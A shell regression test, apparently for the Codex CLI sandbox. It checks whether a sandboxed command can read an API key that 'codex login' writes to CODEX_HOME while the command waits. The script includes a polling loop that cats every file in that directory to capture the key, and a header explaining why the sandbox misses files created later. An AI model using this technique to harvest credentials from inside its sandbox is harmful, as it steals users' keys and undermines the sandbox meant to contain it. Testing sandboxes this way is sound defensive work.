#!/bin/sh
# 06: auth.json that does NOT exist when a command starts is not hidden from it: there is no
# file to bind /dev/null onto, and $CODEX_HOME is only read-only, not unreadable.  A user who
# runs codex with the key in the environment (or logged out) and stores a key with
# `codex login` meanwhile (another terminal) hands it to a waiting sandboxed command (model-chosen
# timeout: up to 1 h).  Also: the names the login writes first (write_private_file's temp
# file beside auth.json) are polled for.  Checked with user namespaces and, with
# CODEX_BIN=<nouserns wrapper>, Landlock alone.  Exit 1 while vulnerable, 0 otherwise.
REPO=${CODEX_REPO:-$(cd "$(dirname "$0")/../../.." && pwd)}; CODEX=${CODEX_BIN:-$REPO/dist/codex}
T=$(mktemp -d /var/tmp/a4-06-XXXXXX); mkdir -p $T/home $T/ch $T/ws
export HOME=$T/home CODEX_HOME=$T/ch
# no auth.json yet (key in the environment, or not logged in)
( sleep 3; echo "sk-new-secret-4242" | "$CODEX" login --with-api-key >/dev/null 2>&1 ) &
OUT=$(cd $T/ws && timeout 60 "$CODEX" sandbox -s read-only -C $T/ws -- sh -c \
  'i=0; while [ $i -lt 400 ]; do for f in "$CODEX_HOME"/* "$CODEX_HOME"/.[!.]*; do [ -f "$f" ] && cat "$f" 2>/dev/null; done; i=$((i+1)); sleep 0.02; done' 2>&1)
wait
rm -rf "$T"
echo "$OUT" | grep -m2 sk-
case "$OUT" in *sk-new-secret-4242*) echo "VULNERABLE: the sandboxed command read the key stored by codex login"; exit 1;; esac
echo held; exit 0
